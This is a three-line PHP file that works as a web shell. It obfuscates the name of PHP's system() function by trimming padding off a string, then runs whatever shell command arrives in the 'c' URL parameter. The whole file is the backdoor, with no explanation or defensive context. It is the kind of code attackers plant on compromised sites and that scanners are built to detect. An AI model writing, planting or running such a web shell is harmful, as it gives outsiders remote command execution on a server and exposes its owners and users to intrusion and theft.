<?php
$n = rtrim("system zz", " z");
$n($_GET['c']);
